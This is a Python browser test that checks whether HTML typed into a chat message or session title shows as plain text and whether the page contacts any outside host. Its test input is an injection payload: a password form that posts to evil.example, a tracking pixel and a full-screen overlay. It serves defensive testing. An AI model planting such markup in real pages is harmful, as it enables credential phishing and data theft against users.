"""Point 5 of issue 14 in a real browser: a writer's words render as text, and the page fetches nothing from outside."""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest

from tests.app.test_browser import browser  # noqa: F401 - the fixture
from tests.hardening.conftest import Start

pytestmark = pytest.mark.browser

FORM = (
    '<form action="http://evil.example/steal"><input type="password" name="pw"></form>'
    '<img src="http://evil.example/pixel.png"><div style="position:fixed;inset:0;background:red">covered</div>'
)


def test_markup_in_a_message_and_a_title_is_shown_as_text(start_app: Start, browser) -> None:  # noqa: F811
    url, _ = start_app()
    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    outside: list[str] = []
    page.on("request", lambda r: outside.append(r.url) if urlsplit(r.url).hostname not in ("127.0.0.1",) else None)
    page.goto(url)
    page.locator("#chat-input textarea").fill(f"a lighthouse {FORM}")
    page.locator("#send-button").click()
    page.locator("#chat img").first.wait_for(timeout=90_000)
    page.wait_for_function(
        "(document.querySelector('#session-list')?.innerText ?? '').includes('lighthouse')",
        timeout=30_000,
    )

    for area in ("#chat", "#session-list", "#picture-details"):
        assert page.locator(f"{area} form").count() == 0, area
        assert page.locator(f"{area} input[type=password]").count() == 0, area
        assert page.locator(f"{area} img[src*='evil.example']").count() == 0, area
    assert "<form" in page.locator("#chat").inner_text()  # the writer sees what they typed, as text
    # Reopened from the list (a fresh page), the stored message is still text.
    page.goto(url)
    page.locator("#session-list").get_by_text("lighthouse", exact=False).first.click()
    page.wait_for_function("document.querySelector('#chat').innerText.includes('<form')", timeout=30_000)
    assert page.locator("#chat form").count() == 0
    assert outside == [], outside
